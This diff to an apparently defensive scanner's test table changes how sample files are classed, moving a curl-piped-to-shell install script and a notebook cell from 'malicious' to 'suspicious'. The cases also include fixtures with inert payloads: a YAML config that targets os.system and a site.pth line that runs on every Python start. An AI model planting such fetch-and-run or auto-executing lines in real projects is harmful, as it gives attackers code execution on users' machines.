@@ -541,9 +541,9 @@ export const SETTINGS: readonly Case[] = [
   ),
   malicious('target.yaml', 'CVE-2025-23304', 'model: {_target_: os.system, command: "true"}\n'),
   malicious('site.pth', 'a line that every start of Python runs', "import os; os.system('true')\n"),
-  malicious('install.sh', 'fetched and run', `#!/bin/sh\ncurl -s ${NOBODY} | sh\n`),
+  suspicious('install.sh', 'fetched and run', `#!/bin/sh\ncurl -s ${NOBODY} | sh\n`),
   clean('train.sh', 'a script that only trains', '#!/bin/sh\npython -m torch.distributed.run train.py --lr 1e-4\n'),
-  malicious(
+  suspicious(
     'evil.ipynb',
     'a notebook that fetches and runs',
     json({ nbformat: 4, cells: [{ cell_type: 'code', source: [`!curl ${NOBODY} | bash`] }] }),
